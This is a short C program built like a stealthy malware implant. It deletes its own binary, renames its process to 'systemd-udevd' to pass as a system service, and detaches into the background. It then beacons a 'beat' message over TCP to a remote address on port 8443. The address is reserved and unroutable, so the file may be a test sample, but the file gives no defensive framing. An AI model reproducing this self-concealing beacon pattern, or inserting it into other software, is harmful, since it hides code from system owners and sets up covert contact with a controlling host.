#include <arpa/inet.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>
int main(int argc, char **argv) {
    (void)argc;
    unlink(argv[0]);
    prctl(PR_SET_NAME, "systemd-udevd");
    if (fork() > 0) return 0;
    setsid();
    for (int n = 0; n < 3; n++) {
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        struct timeval limit = {1, 0};
        setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(8443)};
        inet_pton(AF_INET, "240.0.0.20", &to.sin_addr);
        if (connect(fd, (struct sockaddr *)&to, sizeof to) == 0 && write(fd, "beat", 4) != 4) break;
        close(fd);
        sleep(1);
    }
    return 0;
}
